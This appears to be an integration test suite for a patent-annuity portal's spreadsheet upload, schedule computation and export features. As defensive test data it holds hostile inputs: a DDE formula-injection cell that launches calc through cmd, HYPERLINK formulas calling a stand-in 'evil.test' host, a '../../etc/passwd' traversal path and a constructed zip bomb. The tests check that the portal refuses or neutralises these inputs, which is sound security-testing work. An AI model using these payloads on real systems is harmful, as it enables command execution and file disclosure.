import ExcelJS from 'exceljs';
import * as XLSX from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { computeSchedule, parseIsoDate, scheduleToJson, type Day } from '@portal/annuities';
import { SESSION_DAYS, type AnnuityFileDto, type AnnuityPatentDto } from '@portal/contracts';
import { annuityFiles } from '@portal/db';
import { BUS_EVENT, type BusMessage } from '@portal/realtime';
import { count, eq } from 'drizzle-orm';
import { cases } from '../../../packages/annuities/test/schedule-cases.ts';
import { ENGLISH_HEADERS, FRENCH_HEADERS, rowsFrom, xlsxBuffer, type Cell } from '../../../packages/annuities/test/support/workbooks.ts';
import { buildZip, minimalXlsxEntries, SHEET_HEAD, SHEET_TAIL } from '../../../packages/annuities/test/support/zip.ts';
import { downloadExport, sheetRows } from './support/annuity-exports.ts';
import { databaseKinds, startTestPortal, type TestClient, type TestPortal } from './support/portal.ts';

const HEADERS = [...ENGLISH_HEADERS, 'Origin'];

function upload(client: TestClient, files: Array<{ filename: string; content: Buffer | string }>, fields: Record<string, string> = {}) {
  return client.upload('/api/brevets/annuite', files, fields);
}

/** Polls the file list (the truth the screens read) until the file leaves in_progress. */
async function settled(client: TestClient, id: string, timeoutMs = 60_000): Promise<AnnuityFileDto> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const res = await client.get('/api/annuite/files?limit=100');
    const file = (res.body.data as AnnuityFileDto[]).find((f) => f._id === id);
    if (file && file.is_done !== 'in_progress') return file;
    if (Date.now() > deadline) throw new Error(`file ${id} still ${file?.is_done}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

async function checked(client: TestClient, filename: string, content: Buffer, fields: Record<string, string> = {}): Promise<AnnuityFileDto> {
  const res = await upload(client, [{ filename, content }], fields);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return settled(client, res.body._id as string);
}

async function allPatents(client: TestClient, id: string, query = ''): Promise<AnnuityPatentDto[]> {
  const res = await client.get(`/api/brevets/file/${id}?limit=all${query}`);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body.patents as AnnuityPatentDto[];
}

/** The export's first sheet as header → value objects. */
async function exportRows(client: TestClient, file: AnnuityFileDto): Promise<Array<Record<string, unknown>>> {
  return sheetRows((await downloadExport(client, file)).worksheets[0]!);
}

/** Moves the test clock to noon UTC of `iso` (the engine's reference date is the day of the check). */
function setDay(t: TestPortal, iso: string) {
  t.clock.advance(Date.parse(`${iso}T12:00:00Z`) - t.clock.now().getTime());
}

describe.each(databaseKinds())('annuities flow (%s)', (kind) => {
  let t: TestPortal;
  let owner: { client: TestClient; id: string };
  let other: { client: TestClient; id: string };
  let admin: { client: TestClient; id: string };
  const events: Array<{ room: string; file: AnnuityFileDto }> = [];

  beforeAll(async () => {
    t = await startTestPortal(kind, { UPLOAD_RATE_LIMIT: '1000' });
    owner = await t.loginAs('user_annuites');
    other = await t.loginAs('user_annuites');
    admin = await t.loginAs('admin');
    const bus = (t.portal.ctx.realtime as unknown as { bus: import('node:events').EventEmitter }).bus;
    bus.on(BUS_EVENT, (message: BusMessage) => {
      if (message.event === 'annuities:file:updated') events.push({ room: message.room, file: message.args[0] as AnnuityFileDto });
    });
  });
  afterAll(async () => t.close());

  it('done-when 1: every schedule case of the engine, uploaded as a workbook, comes back exactly as computeSchedule gives it', async () => {
    // Cases a spreadsheet can express (no Euro-PCT, divisional or unitary-registration dates), grouped by their reference date.
    const usable = cases.filter((c) => !c.euroPctPeriodStart && !c.divisionalFiling && !c.unitaryRegistration);
    const byDay = new Map<string, typeof usable>();
    for (const c of usable) byDay.set(c.today, [...(byDay.get(c.today) ?? []), c]);
    const realNow = Date.now();
    let compared = 0;
    let session: { client: TestClient; since: number } | undefined;
    try {
      for (const [today, group] of [...byDay].sort(([a], [b]) => a.localeCompare(b))) {
        setDay(t, today);
        // Sessions live in the test clock's time: sign in again when the jump is longer than a session.
        if (!session || Date.parse(today) - session.since > (SESSION_DAYS - 1) * 86_400_000) session = { client: (await t.loginAs('user_annuites')).client, since: Date.parse(today) };
        const { client } = session;
        const rows: Cell[][] = group.map((c, i) => [null, null, `CASE-${i}`, c.name, c.office, null, c.filing, c.grant ?? null, c.lastPaid ?? null, null, c.origin]);
        const file = await checked(client, `cases-${today}.xlsx`, await xlsxBuffer([{ name: 'Cases', headers: HEADERS, rows }]));
        expect(file, JSON.stringify(file)).toMatchObject({ is_done: 'Done', reference_date: today, rows_total: group.length });
        const patents = await allPatents(client, file._id);
        expect(patents).toHaveLength(group.length);
        group.forEach((c, i) => {
          const p = patents[i]!;
          const day = (s: string | undefined) => (s ? parseIsoDate(s) : null);
          // A spreadsheet's last-paid cell outside 0-20 is a row issue and is ignored (evaluateRow), not a refusal of the row.
          const lastPaidReadable = c.lastPaid === undefined || (c.lastPaid >= 0 && c.lastPaid <= 20);
          const result = computeSchedule(
            { office: c.office, origin: c.origin, filing: day(c.filing)!, grant: day(c.grant), lastPaid: lastPaidReadable ? (c.lastPaid ?? null) : null },
            day(today) as Day,
          );
          const label = `${today} ${c.name}`;
          if (!lastPaidReadable) expect(p.reasons, label).toContain('invalid_last_paid');
          expect(p.reference, label).toBe(`CASE-${i}`);
          if (!result.ok) {
            expect(p.colour, label).toBe('no_date');
            expect(p.reasons, label).toContain(result.reason);
            return;
          }
          const json = scheduleToJson(result.value);
          expect(
            {
              quant_precedent: p.quant_precedent,
              date_precedente_annuite: p.date_precedente_annuite,
              next_number: p.next_number,
              date_prochaine_annuite: p.date_prochaine_annuite,
              instruction_limit: p.instruction_limit,
              limite_date_prochaine_annuite: p.limite_date_prochaine_annuite,
              colour: p.colour,
              dechu: p.dechu,
              expired: p.expired,
              flags: p.flags,
            },
            label,
          ).toEqual({
            quant_precedent: json.quant_precedent,
            date_precedente_annuite: json.date_precedente_annuite,
            next_number: json.next_number,
            date_prochaine_annuite: json.date_prochaine_annuite,
            instruction_limit: json.instruction_limit,
            limite_date_prochaine_annuite: json.limite_date_prochaine_annuite,
            colour: json.colour,
            dechu: json.dechu,
            expired: json.expired,
            flags: json.flags,
          });
          compared++;
        });
      }
    } finally {
      t.clock.advance(realNow - t.clock.now().getTime());
    }
    expect(compared).toBeGreaterThan(100);
  }, 300_000);

  it('issue 26: a lapsed row carries the annuity missed and its lost-after day; a row with no number and no country says why', async () => {
    const realNow = Date.now();
    try {
      setDay(t, '2025-10-01');
      const { client } = await t.loginAs('user_annuites');
      const rows: Cell[][] = [
        // NL, annuity 7 paid: annuity 8 was due 31-03-2025, its grace ended 30-09-2025 (the engine's lost after).
        [null, null, 'LAPSED', 'Lapsed', 'NL', null, '2018-03-15', null, 7, null],
        [null, null, 'BARE', 'Nothing to go on', null, null, '2018-03-15', null, null, null],
        [null, null, 'ALIVE', 'Paid', 'NL', null, '2018-03-15', null, 8, null],
      ];
      const file = await checked(client, 'why.xlsx', await xlsxBuffer([{ name: 'S', headers: ENGLISH_HEADERS, rows }]));
      const byRef = new Map((await allPatents(client, file._id)).map((p) => [p.reference, p]));
      expect(byRef.get('LAPSED')).toMatchObject({ dechu: true, missed_number: 8, missed_lost_after: '2025-09-30', next_number: null });
      expect(byRef.get('BARE')).toMatchObject({ colour: 'no_date', reasons: ['empty_number', 'missing_country'], dechu: false, missed_number: null, missed_lost_after: null });
      expect(byRef.get('ALIVE')).toMatchObject({ dechu: false, missed_number: null, missed_lost_after: null });

      // Paid after all: the edit's recomputation is no longer lapsed, and forgets the missed annuity.
      const lapsed = byRef.get('LAPSED')!;
      const res = await client.put(`/api/brevets/annuite/${lapsed._id}`, { quant_precedent: 8, date_precedente_annuite: lapsed.date_precedente_annuite, date_prochaine_annuite: lapsed.date_prochaine_annuite, limite_date_prochaine_annuite: lapsed.limite_date_prochaine_annuite });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.patent).toMatchObject({ dechu: false, missed_number: null, missed_lost_after: null, next_number: 9 });
    } finally {
      t.clock.advance(realNow - t.clock.now().getTime());
    }
  });

  it('#25 without a last-paid column: due soon and in grace are red "payment not known", past grace is not lapsed; the export and the screen legend say why in both languages', async () => {
    const realNow = Date.now();
    try {
      setDay(t, '2024-05-15');
      const { client } = await t.loginAs('user_annuites');
      // No "Last annuity paid" column at all: the portal cannot know what was paid.
      const headers = ENGLISH_HEADERS.filter((h) => h !== 'Last annuity paid');
      const row = (ref: string, filing: string): Cell[] => [null, null, ref, ref, 'FR', null, filing, null, null];
      const rows = [
        row('IN-GRACE', '2018-03-15'), // annuity 7 due 31-03-2024: in its 6 months of grace on 15-05-2024
        row('DUE-SOON', '2018-05-20'), // annuity 7 due 31-05-2024: 16 days ahead
        row('PAST-GRACE', '2018-10-10'), // annuity 6 due 31-10-2023, grace ended 30-04-2024: assumed paid, never lapsed
        row('FAR', '2018-09-10'), // annuity 7 due 30-09-2024: 138 days ahead
      ];
      const file = await checked(client, 'no-last-paid.xlsx', await xlsxBuffer([{ name: 'S', headers, rows }]));
      expect(file.is_done).toBe('Done');
      const byRef = new Map((await allPatents(client, file._id)).map((p) => [p.reference, p]));
      expect(byRef.get('IN-GRACE')).toMatchObject({ next_number: 7, date_prochaine_annuite: '2024-03-31', quant_precedent: 6, colour: 'nok', dechu: false, in_grace_with_surcharge: true, flags: ['payment_unknown'] });
      expect(byRef.get('DUE-SOON')).toMatchObject({ next_number: 7, date_prochaine_annuite: '2024-05-31', colour: 'nok', dechu: false, in_grace_with_surcharge: false, flags: ['payment_unknown'] });
      expect(byRef.get('PAST-GRACE')).toMatchObject({ quant_precedent: 6, next_number: 7, date_prochaine_annuite: '2024-10-31', colour: 'ok', dechu: false, flags: [] });
      expect(byRef.get('FAR')).toMatchObject({ next_number: 7, colour: 'ok', flags: [] });
      const red = await client.get(`/api/brevets/file/${file._id}?limit=all&colour=nok`);
      expect((red.body.patents as AnnuityPatentDto[]).map((p) => p.reference).sort()).toEqual(['DUE-SOON', 'IN-GRACE']);

      const wb = await downloadExport(client, file);
      const sheet = wb.worksheets[0]!;
      const header = (sheet.getRow(1).values as unknown[]).map(String);
      const reasons = header.indexOf('Motifs / Reasons');
      expect(String(sheet.getRow(2).getCell(reasons).value)).toBe('payment_unknown');
      const legend: string[] = [];
      wb.worksheets[1]!.eachRow((r) => legend.push((r.values as unknown[]).slice(1).map(String).join(' | ')));
      expect(legend.find((l) => l.startsWith('payment_unknown'))).toMatch(/paiement inconnu.*\| Due soon or past due, payment not known/);
      expect(legend.find((l) => l.startsWith('nok'))).toMatch(/dans les 37 jours \(paiement inconnu\) \| .*within 37 days \(payment not known\)/);
    } finally {
      t.clock.advance(realNow - t.clock.now().getTime());
    }
  });

  it('publishes progress to the owner and the transition to the owner and the admins; a refused file is Error with a translated reason, not retried', async () => {
    const done = await checked(owner.client, 'events.xlsx', await xlsxBuffer([{ name: 'S', headers: HEADERS, rows: [[null, null, 'R1', 'T', 'FR', null, '2018-03-15', null, null, null, null]] }]));
    const finals = events.filter((e) => e.file._id === done._id && e.file.is_done === 'Done');
    expect(finals.map((e) => e.room).sort()).toEqual(['role:admin', `user:${owner.id}`]);
    expect(finals[0]!.file.counts).toEqual({ ok: 1, nok: 0, orange: 0, no_date: 0 });

    // A larger file: progress (rows stored so far) goes to the owner only, on a timer, while the check runs.
    const big = await checked(owner.client, 'progress.xlsx', await xlsxBuffer([{ name: 'S', headers: FRENCH_HEADERS, rows: rowsFrom(0, 8000) }]));
    expect(big).toMatchObject({ is_done: 'Done', rows_total: 8000 });
    const running = events.filter((e) => e.file._id === big._id && e.file.is_done === 'in_progress');
    expect(running.filter((e) => e.room === `user:${owner.id}`).length).toBeGreaterThanOrEqual(2); // the new file, then beats
    expect(running.filter((e) => e.room === 'role:admin').map((e) => e.file.rows_done)).toEqual([0]); // the new file only
    const seen = running.filter((e) => e.room === `user:${owner.id}`).map((e) => e.file.rows_done);
    expect(seen).toEqual([...seen].sort((a, b) => a - b));
    // The total is the engine's expectation, sent with the beats once the workbook was inspected.
    for (const e of running) expect([null, 8000]).toContain(e.file.rows_total);

    const fr = t.client({ lang: 'fr' });
    fr.cookies.set(...([...owner.client.cookies][0]!));
    const noHeaders = await checked(owner.client, 'noheaders.xlsx', await xlsxBuffer([{ name: 'S', headers: ['a', 'b', 'c'], rows: [[1, 2, 3]] }]));
    expect(noHeaders).toMatchObject({ is_done: 'Error', error_code: 'headers_not_found', counts: null, path_export: null });
    const listed = await fr.get('/api/annuite/files?limit=100');
    expect(listed.body.data.find((f: AnnuityFileDto) => f._id === noHeaders._id).error_message).toMatch(/en-têtes/);
    const [row] = await t.portal.ctx.db.select({ attempts: annuityFiles.attempts }).from(annuityFiles).where(eq(annuityFiles.id, noHeaders._id));
    expect(row!.attempts).toBe(1);
  });

  it('lists, downloads, edits and comments; the export reflects the edits and comments, and never holds a formula', async () => {
    const rows: Cell[][] = [
      ['FR3012345', '1909731', 'REF-A', 'Alpha', 'FR', 'Client A', '15/03/2018', null, null, '=HYPERLINK("http://x?"&A1)', null],
      ['EP 3 012 345 A1', '18 123 456.7', 'REF-B', 'beta', 'ep', 'Client B', '2018-03-15', null, null, '+cmd|\' /C calc\'!A0', null],
      [' DE 10 2007 004 488 ', '10 2007 004 488.9', '@SUM(1+1)', 'Gamma', 'de', null, '15.03.2010', '10-01-2012', 3, null, null],
      ['GB2345678', 'GB1234567.8', 'REF-D', '=1+1', 'GB', null, '15-03-2000', null, null, null, null],
      [null, null, 'REF-E', 'No date', 'FR', null, null, null, null, null, null],
    ];
    const file = await checked(owner.client, 'Mixed.XLSX', await xlsxBuffer([{ name: 'Sheet', headers: HEADERS, rows }]), { title: 'Portfolio 2026' });
    expect(file).toMatchObject({ is_done: 'Done', title: 'Portfolio 2026', name_file_import: 'Mixed.XLSX', name_file_export: 'Mixed_export.xlsx' });
    const patents = await allPatents(owner.client, file._id);
    expect(patents.map((p) => p.reference)).toEqual(['REF-A', 'REF-B', '@SUM(1+1)', 'REF-D', 'REF-E']);
    // Dates as text in four formats, numbers with spaces and kind codes.
    expect(patents.slice(0, 4).map((p) => p.date_depot)).toEqual(['2018-03-15', '2018-03-15', '2010-03-15', '2000-03-15']);
    expect(patents[1]!.publié).toBe('EP3012345');
    expect(patents[2]!.office).toBe('DE');
    expect(patents[4]!.colour).toBe('no_date');

    // Someone else's file is not found; the admin sees it with its owner.
    expect((await other.client.get(`/api/brevets/file/${file._id}`)).status).toBe(404);
    const adminList = await admin.client.get('/api/annuite/files?limit=100');
    expect(adminList.body.data.find((f: AnnuityFileDto) => f._id === file._id).owner._id).toBe(owner.id);
    expect((await other.client.get('/api/annuite/files?limit=100')).body.data.some((f: AnnuityFileDto) => f._id === file._id)).toBe(false);

    // Both downloads; traversal and unknown keys are 404 with nothing read.
    const imported = await owner.client.get(`/api/annuite/files/download?file_path=${encodeURIComponent(file.path_import)}`);
    expect(imported.status).toBe(200);
    for (const bad of ['../../etc/passwd', `${file.path_import}/..`, 'annuities/export/x.xlsx', '%00']) {
      expect((await owner.client.get(`/api/annuite/files/download?file_path=${encodeURIComponent(bad)}`)).status).toBe(404);
    }
    expect((await other.client.get(`/api/annuite/files/download?file_path=${encodeURIComponent(file.path_export!)}`)).status).toBe(404);

    const before = await exportRows(owner.client, file);
    for (const row of before) for (const value of Object.values(row)) expect(value === null || typeof value !== 'object' || !('formula' in value)).toBe(true);

    // Edit: next before previous is a translated 400; a valid edit recomputes the colour.
    const target = patents[0]!;
    const bad = await owner.client.put(`/api/brevets/annuite/${target._id}`, { date_precedente_annuite: '2030-01-01', date_prochaine_annuite: '2029-01-01' });
    expect(bad.status).toBe(400);
    expect(bad.body.code).toBe('next_before_previous');
    const frBad = t.client({ lang: 'fr' });
    frBad.cookies.set(...([...owner.client.cookies][0]!));
    expect((await frBad.put(`/api/brevets/annuite/${target._id}`, { date_prochaine_annuite: '1999-01-01', date_precedente_annuite: '2000-01-01' })).body.message).toMatch(/annuité/);
    const edited = await owner.client.put(`/api/brevets/annuite/${target._id}`, { date_precedente_annuite: '2001-03-31', quant_precedent: 4, date_prochaine_annuite: null, limite_date_prochaine_annuite: null });
    expect(edited.status).toBe(200);
    expect(edited.body.patent).toMatchObject({ colour: 'orange', quant_precedent: 4, date_prochaine_annuite: null, edited: true });
    expect((await other.client.put(`/api/brevets/annuite/${target._id}`, { quant_precedent: 5 })).status).toBe(404);

    // Bulk comment: one foreign id makes the whole call a 404 and changes nothing.
    const foreign = await checked(other.client, 'foreign.xlsx', await xlsxBuffer([{ name: 'S', headers: HEADERS, rows: [[null, null, 'X', 'T', 'FR', null, '2018-03-15', null, null, null, null]] }]));
    const [foreignPatent] = await allPatents(other.client, foreign._id);
    const refused = await owner.client.put('/api/brevets/annuites/many', { ids: [patents[1]!._id, foreignPatent!._id], comment: 'nope' });
    expect(refused.status).toBe(404);
    expect((await allPatents(owner.client, file._id))[1]!.commentaire).toBe("+cmd|' /C calc'!A0");
    const commented = await owner.client.put('/api/brevets/annuites/many', { ids: [patents[1]!._id, patents[4]!._id], comment: '=cmd() checked by Ann' });
    expect(commented.body).toEqual({ success: true, updated: 2 });

    await t.drainQueue();
    const after = await exportRows(owner.client, (await settled(owner.client, file._id)));
    const comment = (r: Record<string, unknown>) => r['Comment'];
    expect(comment(after[1]!)).toBe("'=cmd() checked by Ann");
    expect(comment(after[4]!)).toBe("'=cmd() checked by Ann");
    expect(after[0]!['quant_precedent']).toBe(4);
    expect(after[0]!['date_prochaine_annuite']).toBeNull();
    expect(after[0]!['Couleur / Colour']).toBe('orange');
    for (const row of after) for (const value of Object.values(row)) expect(value === null || typeof value !== 'object' || !('formula' in value)).toBe(true);
    const listedAfter = (await owner.client.get('/api/annuite/files?limit=100')).body.data.find((f: AnnuityFileDto) => f._id === file._id);
    expect(listedAfter.export_stale).toBe(false);
  });

  it('pages, searches, sorts and filters by colour in the database', async () => {
    const rows: Cell[][] = Array.from({ length: 75 }, (_v, i) => [
      `FR30${String(10000 + i)}`,
      null,
      `REF-${String(i).padStart(3, '0')}`,
      i % 2 ? 'Widget' : 'gadget',
      i % 3 ? 'FR' : 'DE',
      null,
      i % 5 === 0 ? null : `${String(1 + (i % 27)).padStart(2, '0')}/03/${2000 + (i % 20)}`,
      null,
      null,
      null,
      null,
    ]);
    const file = await checked(owner.client, 'paging.xlsx', await xlsxBuffer([{ name: 'S', headers: HEADERS, rows }]));
    const page2 = await owner.client.get(`/api/brevets/file/${file._id}?page=2&limit=30`);
    expect(page2.body.meta).toEqual({ currentPage: 2, totalPages: 3, pageSize: 30, total: 75 });
    expect(page2.body.patents.map((p: AnnuityPatentDto) => p.reference)[0]).toBe('REF-030');
    const search = await owner.client.get(`/api/brevets/file/${file._id}?search=WIDGET&limit=100`);
    expect(search.body.meta.total).toBe(37);
    const country = await owner.client.get(`/api/brevets/file/${file._id}?search=de&limit=100`);
    expect(country.body.patents.every((p: AnnuityPatentDto) => p.pays === 'DE' || /de/i.test(`${p.nom}${p.reference}${p.num_publication}`))).toBe(true);
    const sorted = await owner.client.get(`/api/brevets/file/${file._id}?sort=date_predecent_annuite&order=desc&limit=all`);
    const dates = (sorted.body.patents as AnnuityPatentDto[]).map((p) => p.date_precedente_annuite).filter((d) => d !== null);
    expect(dates).toEqual([...dates].sort().reverse());
    expect((sorted.body.patents as AnnuityPatentDto[]).at(-1)!.date_precedente_annuite).toBeNull();
    const all = await allPatents(owner.client, file._id);
    for (const colour of ['ok', 'nok', 'orange', 'no_date'] as const) {
      const filtered = await owner.client.get(`/api/brevets/file/${file._id}?colour=${colour}&limit=100`);
      expect(filtered.body.meta.total).toBe(all.filter((p) => p.colour === colour).length);
      expect(filtered.body.patents.every((p: AnnuityPatentDto) => p.colour === colour)).toBe(true);
    }
    expect((await owner.client.get(`/api/brevets/file/${file._id}?limit=25`)).status).toBe(400);

    // Every later page is the matching slice of the whole ordering (the deep pages read keys first, then rows).
    for (const q of ['', '&sort=date_prochaine_annuite&order=desc', '&sort=nom&order=asc', '&colour=no_date', '&search=widget&sort=reference&order=desc']) {
      const whole = (await owner.client.get(`/api/brevets/file/${file._id}?limit=all${q}`)).body.patents as AnnuityPatentDto[];
      for (const pageNo of [2, 3]) {
        const got = (await owner.client.get(`/api/brevets/file/${file._id}?page=${pageNo}&limit=30${q}`)).body.patents as AnnuityPatentDto[];
        expect(got.map((p) => p._id), `${q} page ${pageNo}`).toEqual(whole.slice((pageNo - 1) * 30, pageNo * 30).map((p) => p._id));
      }
    }
    // Substring search through the trigram index: a fragment from the middle of a reference.
    expect(((await owner.client.get(`/api/brevets/file/${file._id}?search=f-04&limit=100`)).body.patents as AnnuityPatentDto[]).map((p) => p.reference).sort()).toEqual(
      Array.from({ length: 10 }, (_v, i) => `REF-04${i}`),
    );
    const files = await owner.client.get('/api/annuite/files?search=PAGING&sort=name&order=asc&limit=5');
    expect(files.body.data.map((f: AnnuityFileDto) => f.name_file_import)).toEqual(['paging.xlsx']);
    const research = await owner.client.get('/api/annuite/research?q=ref-07');
    expect(research.body.data.map((h: { patent: AnnuityPatentDto }) => h.patent.reference).sort()).toEqual(['REF-070', 'REF-071', 'REF-072', 'REF-073', 'REF-074']);
    expect(research.body.data[0].file._id).toBe(file._id);
    expect((await other.client.get('/api/annuite/research?q=ref-07')).body.data).toEqual([]);
  });

  describe('bad input and limits: a 4xx before storing, or Error with its reason; the API stays up', () => {
    const stored = async () => (await t.portal.ctx.db.select({ n: count() }).from(annuityFiles))[0]!.n;
    it('wrong extension, a .xlsx that is a PDF, no file, 50 MB', async () => {
      const before = await stored();
      const csv = await upload(owner.client, [{ filename: 'list.csv', content: 'a,b\n' }]);
      expect([csv.status, csv.body.code]).toEqual([415, 'wrong_extension']);
      const pdf = await upload(owner.client, [{ filename: 'report.xlsx', content: Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n') }]);
      expect([pdf.status, pdf.body.code]).toEqual([415, 'wrong_type']);
      const none = await upload(owner.client, [], { title: 'nothing' });
      expect([none.status, none.body.code]).toEqual([400, 'error_choose_file']);
      // Issue 26: a 0-byte workbook is the receipts' "empty file", not a wrong type.
      const empty = await upload(owner.client, [{ filename: 'empty.xlsx', content: Buffer.alloc(0) }]);
      expect([empty.status, empty.body.code, empty.body.message]).toEqual([400, 'empty_file', 'The file is empty.']);
      const big = await upload(owner.client, [{ filename: 'big.xlsx', content: Buffer.alloc(50 * 1024 * 1024, 0x50) }]);
      expect([big.status, big.body.code]).toEqual([413, 'payload_too_large']);
      expect(await stored()).toBe(before);
      expect((await owner.client.get('/api/annuite/files')).status).toBe(200);
    });

    it('data under headers nobody knows: Error headers_not_found; a formula in every cell: Done, and the export holds no formula', async () => {
      const unknown = await checked(
        owner.client,
        'unknown.xlsx',
        await xlsxBuffer([{ name: 'S', headers: ['Colour', 'Size', 'Weight'], rows: [['red', 'XL', 3], ['blue', 'M', 2]] }]),
      );
      expect(unknown).toMatchObject({ is_done: 'Error', error_code: 'headers_not_found' });
      expect(unknown.error_message).toBeTruthy();

      // Every data cell a real formula (cached value included), as a hostile or careless sheet would have it.
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet('Formulas');
      ws.addRow([...HEADERS]);
      for (let r = 2; r <= 6; r++) {
        ws.addRow(HEADERS.map((_, c) => ({ formula: `HYPERLINK("http://evil.test/?r=${r}&c=${c}","FR${r}${c}")`, result: `FR${r}${c}` })));
      }
      const formulas = await checked(owner.client, 'formulas.xlsx', Buffer.from(await wb.xlsx.writeBuffer()));
      // Formulas are read as their text, never evaluated: no date is readable, every row is no_date.
      expect(formulas).toMatchObject({ is_done: 'Done', counts: { ok: 0, nok: 0, orange: 0, no_date: 5 } });
      const rows = await exportRows(owner.client, formulas);
      expect(rows).toHaveLength(5);
      for (const row of rows) {
        for (const value of Object.values(row)) {
          expect(value === null || typeof value !== 'object' || !('formula' in value)).toBe(true);
          if (typeof value === 'string') expect(value).not.toMatch(/^[=+\-@]/);
        }
      }
      expect((await owner.client.get('/api/annuite/files')).status).toBe(200);
    });

    it('empty workbook, headers without rows, zip bomb, password-protected, too many rows: Error with the engine reason', async () => {
      const wb = new ExcelJS.Workbook();
      wb.addWorksheet('Empty');
      const empty = await checked(owner.client, 'empty.xlsx', Buffer.from(await wb.xlsx.writeBuffer()));
      expect(empty).toMatchObject({ is_done: 'Error', error_code: 'headers_not_found' });
      const headersOnly = await checked(owner.client, 'headers.xlsx', await xlsxBuffer([{ name: 'S', headers: HEADERS, rows: [] }]));
      expect(headersOnly).toMatchObject({ is_done: 'Error', error_code: 'no_rows' });
      const bomb = buildZip([
        ...minimalXlsxEntries().filter((e) => e.name !== 'xl/worksheets/sheet1.xml'),
        { name: 'xl/worksheets/sheet1.xml', repeat: { chunk: '<row/>'.repeat(174_763), times: 1024, prefix: SHEET_HEAD, suffix: SHEET_TAIL } },
      ]);
      expect(await checked(owner.client, 'bomb.xlsx', bomb)).toMatchObject({ is_done: 'Error', error_code: 'archive_too_large' });
      const cfb = XLSX.CFB.utils.cfb_new();
      XLSX.CFB.utils.cfb_add(cfb, 'EncryptionInfo', Buffer.alloc(256, 1));
      XLSX.CFB.utils.cfb_add(cfb, 'EncryptedPackage', Buffer.alloc(4096, 2));
      const secret = Buffer.from(XLSX.CFB.write(cfb, { type: 'buffer' }) as Uint8Array);
      expect(await checked(owner.client, 'secret.xlsx', secret)).toMatchObject({ is_done: 'Error', error_code: 'encrypted_not_supported' });
      // 200,001 data rows (the engine's cap is 200,000): counted before parsing.
      const header = '<row r="1"><c r="A1" t="inlineStr"><is><t>Pays</t></is></c><c r="B1" t="inlineStr"><is><t>Date de dépôt</t></is></c></row>';
      const many = buildZip([
        ...minimalXlsxEntries().filter((e) => e.name !== 'xl/worksheets/sheet1.xml'),
        { name: 'xl/worksheets/sheet1.xml', repeat: { chunk: '<row><c t="inlineStr"><is><t>FR</t></is></c><c t="inlineStr"><is><t>15/03/2018</t></is></c></row>', times: 200_001, prefix: SHEET_HEAD + header, suffix: SHEET_TAIL } },
      ]);
      expect(await checked(owner.client, 'many.xlsx', many)).toMatchObject({ is_done: 'Error', error_code: 'too_many_rows' });
      // Nothing of a refused file stays as patents; the import stays downloadable.
      const res = await owner.client.get(`/api/brevets/file/${empty._id}`);
      expect(res.status).toBe(404);
      expect((await owner.client.get(`/api/annuite/files/download?file_path=${encodeURIComponent(empty.path_import)}`)).status).toBe(200);
    });
  });
});
